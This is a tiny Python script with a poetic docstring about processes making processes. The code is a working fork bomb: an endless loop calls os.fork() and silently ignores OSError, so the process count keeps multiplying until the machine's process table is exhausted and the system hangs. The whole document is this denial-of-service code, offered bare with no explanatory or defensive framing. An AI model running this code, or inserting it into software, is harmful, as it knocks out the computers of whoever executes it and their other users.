"""Processes that make processes, for as long as they are let."""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
